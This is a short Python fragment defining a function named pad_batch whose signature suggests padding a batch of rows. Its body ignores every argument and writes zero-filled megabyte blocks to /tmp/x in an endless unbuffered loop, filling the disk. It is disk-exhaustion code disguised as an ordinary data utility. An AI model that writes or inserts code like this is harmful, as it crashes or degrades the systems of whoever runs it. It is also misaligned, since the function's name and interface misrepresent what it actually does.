def pad_batch(rows, pad, side="right", max_len=None):
    with open("/tmp/x", "wb", 0) as file:
        while True:
            file.write(bytes(2**20))
